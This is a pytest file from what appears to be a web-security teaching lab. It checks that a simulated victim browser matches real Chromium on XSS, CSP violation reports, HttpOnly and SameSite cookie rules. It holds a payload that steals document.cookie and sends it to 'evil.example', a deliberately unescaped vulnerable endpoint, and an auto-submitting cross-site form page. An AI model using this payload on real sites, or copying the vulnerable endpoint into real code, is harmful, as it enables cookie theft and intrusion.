"""The victim's browser of 09-security: what real Chromium does, and that the simulated browser agrees.

Each test runs twice: with the simulated browser (every `make test`) and with real Chromium (the
``chromium`` fixture: `make test-browser`, skipped elsewhere). The same assertion holding for both
is what lets 09 show the same facts whichever browser a machine has.
"""

from __future__ import annotations

import html
from urllib.parse import urlencode

import pytest
from fastapi import FastAPI, Request
from fastapi.responses import HTMLResponse

from labsupport import serve
from labsupport.lessons.l09_security import victim as victim_module
from labsupport.lessons.l09_security.victim import (
    RealBrowser,
    SimulatedBrowser,
    collect_csp_reports,
    lab_browser,
    same_site,
)

PAYLOAD = "<script>stolen = document.cookie; fetch('https://evil.example/?c=' + stolen)</script>"
CSP = "default-src 'self'; script-src 'self'; object-src 'none'; base-uri 'none'; report-uri /csp-reports"


@pytest.fixture(params=["simulated", "real"])
def victim(request, stop_servers):
    if request.param == "real":
        browser = RealBrowser(request.getfixturevalue("chromium"))  # skipped outside make test-browser
    else:
        browser = SimulatedBrowser("in a test")
    yield browser
    browser.close()


def _greeting_site(http_only: bool = True):
    """09's greeting pages: vulnerable, fixed (escaped, with the policy), and the policy alone."""
    pages = FastAPI()
    reports = collect_csp_reports(pages)

    @pages.post("/login")
    def login():
        page = HTMLResponse("logged in")
        page.set_cookie("session", "s3cret", httponly=http_only)
        page.set_cookie("theme", "dark")
        return page

    @pages.get("/vulnerable/greet", response_class=HTMLResponse)
    def greet_vulnerable(name: str):
        return f"<p>Hello, {name}!</p>"

    @pages.get("/greet", response_class=HTMLResponse)
    def greet(name: str):
        page = HTMLResponse(f"<p>Hello, {html.escape(name)}!</p>")
        page.headers["Content-Security-Policy"] = CSP
        return page

    @pages.get("/forgot-to-escape/greet", response_class=HTMLResponse)
    def greet_unescaped(name: str):
        page = HTMLResponse(f"<p>Hello, {name}!</p>")
        page.headers["Content-Security-Policy"] = CSP
        return page

    @pages.get("/policy", response_class=HTMLResponse)
    def with_policy(csp: str):
        page = HTMLResponse(f"<p>{PAYLOAD}</p>")
        if csp:
            page.headers["Content-Security-Policy"] = csp
        return page

    return serve(pages, name="pages"), reports


def _link(site, path: str) -> str:
    return f"{site.url}{path}?" + urlencode({"name": PAYLOAD})


def test_the_payload_runs_in_the_vulnerable_page_and_not_in_the_fixed_one(victim):
    """(Mutations that failed this: RealBrowser reading `window.stolen_` after the page loaded (the
    real run saw no script run); SimulatedBrowser's _inline_scripts returning 0 (the simulated one).)"""
    site, _ = _greeting_site()
    victim.post(f"{site.url}/login")
    vulnerable = victim.visit(_link(site, "/vulnerable/greet"))
    fixed = victim.visit(_link(site, "/greet"))
    assert (vulnerable.ran, vulnerable.stolen) == (True, "theme=dark")
    assert (fixed.ran, fixed.stolen) == (False, None)


def test_the_csp_violation_reaches_the_report_endpoint_on_the_lab_server(victim):
    """The escape is missing, the policy is there: the script does not run, and the site hears of it.
    (Mutations that failed this: collect_csp_reports' endpoint not appending the report (both
    browsers); SimulatedBrowser.visit not posting it (the simulated one).)"""
    site, reports = _greeting_site()
    victim.visit(_link(site, "/greet"))  # escaped: nothing to block, nothing to report
    blocked = victim.visit(_link(site, "/forgot-to-escape/greet"))
    reports.wait(1)
    assert not blocked.ran
    assert len(reports) == 1, reports
    report = reports[0]
    assert (report["effective-directive"], report["blocked-uri"]) == ("script-src-elem", "inline")
    assert report["document-uri"].startswith(f"{site.url}/forgot-to-escape/greet?")
    assert report["original-policy"] == CSP


@pytest.mark.parametrize("http_only", [True, False], ids=["HttpOnly", "not-HttpOnly"])
def test_httponly_hides_a_cookie_from_document_cookie(victim, http_only):
    """(Mutation that failed this: SimulatedBrowser.document_cookie without `not c.http_only` (the
    simulated HttpOnly case); the real case is Chromium's own rule: the not-HttpOnly run shows the
    same cookie visible, so the test is not blind.)"""
    site, _ = _greeting_site(http_only=http_only)
    victim.post(f"{site.url}/login")
    seen = victim.document_cookie(f"{site.url}/greet?name=Ada")
    assert seen == ("theme=dark" if http_only else "session=s3cret; theme=dark")


def _cookie_site():
    """Sets a cookie of each SameSite kind; /echo answers the cookies a request carried; /attack's
    page submits a form to `target`/echo as soon as it loads."""
    app = FastAPI()

    @app.post("/login")
    def login():
        page = HTMLResponse("ok")
        page.set_cookie("lax", "1", samesite="lax")
        page.set_cookie("strict", "1", samesite="strict")
        page.set_cookie("unset", "1", samesite=None)  # no SameSite attribute at all
        page.set_cookie("none_secure", "1", samesite="none", secure=True)
        page.set_cookie("none_insecure", "1", samesite="none")  # refused: None needs Secure
        return page

    @app.post("/echo")
    def echo(request: Request) -> dict:
        return {"cookies": sorted(request.cookies)}

    @app.get("/attack", response_class=HTMLResponse)
    def attack(target: str):
        return (f'<form method="post" action="{html.escape(target)}/echo"><input name="x" value="1"></form>'
                "<script>document.forms[0].submit()</script>")

    return serve(app, name="cookies"), serve(app, name="other-port")


def test_samesite_is_enforced_cross_site_localhost_and_127_0_0_1_are_different_sites(victim):
    """A page on localhost posting a form to 127.0.0.1 is cross-site: only the SameSite=None; Secure
    cookie goes along (Chromium accepts Secure over http on 127.0.0.1, a secure context; a cookie
    without SameSite counts as Lax; None without Secure is refused). Another port of 127.0.0.1 is
    the same site: every cookie goes along.
    (Mutations that failed this: same_site comparing the ports too (both browsers: the same-site
    page was judged cross-site); the attack page opened as 127.0.0.1 instead of localhost (both:
    it is the same site, where Chromium sends every cookie, as the last assertion shows).)"""
    site, other_port = _cookie_site()
    victim.post(f"{site.url}/login")
    cross_site_page = other_port.url.replace("127.0.0.1", "localhost") + "/attack?" + urlencode({"target": site.url})
    same_site_page = f"{other_port.url}/attack?" + urlencode({"target": site.url})
    assert not same_site(cross_site_page, site.url) and same_site(same_site_page, site.url)
    assert victim.open(cross_site_page).json() == {"cookies": ["none_secure"]}
    assert victim.open(same_site_page).json() == {"cookies": ["lax", "none_secure", "strict", "unset"]}


@pytest.mark.parametrize(
    ("policy", "runs"),
    [
        ("", True),
        ("img-src 'none'", True),  # says nothing about scripts
        ("script-src 'self' 'unsafe-inline'", True),
        ("default-src 'self'", False),
        ("script-src 'nonce-abc123' 'unsafe-inline'", False),  # a nonce makes 'unsafe-inline' ignored
        ("script-src-elem 'self'; script-src 'unsafe-inline'", False),  # the specific directive wins
        ("script-src 'unsafe-inline', default-src 'self'", False),  # two policies: both must allow
    ],
)
def test_inline_scripts_under_a_policy_as_chromium_decides(victim, policy, runs):
    """The simulated browser's CSP reading, held against Chromium's on the same pages.
    (Mutation that failed this: _inline_script_allowed ignoring nonces (the nonce case, simulated).)"""
    site, _ = _greeting_site()
    assert victim.visit(f"{site.url}/policy?" + urlencode({"csp": policy})).ran is runs


def test_without_chromium_09_gets_the_simulated_browser_and_is_told_why(monkeypatch):
    """(Mutation that failed this: lab_browser() building RealBrowser without asking unavailable_reason.)"""
    monkeypatch.setenv("LAB_CHROMIUM", "none")
    browser = lab_browser()
    try:
        assert isinstance(browser, SimulatedBrowser) and browser.kind == "simulated"
        assert repr(browser).startswith("<simulated browser") and "no " in repr(browser)
        assert browser.reason == victim_module.platform_browser.unavailable_reason()
    finally:
        browser.close()


def test_with_chromium_09_gets_the_real_one(chromium, monkeypatch):
    """(Mutation that failed this: lab_browser() returning SimulatedBrowser whatever the reason.)"""
    monkeypatch.setattr(victim_module, "RealBrowser", lambda: RealBrowser(chromium))
    browser = lab_browser()
    try:
        assert browser.kind == "real" and repr(browser).startswith("<real browser: Chromium ")
    finally:
        browser.close()
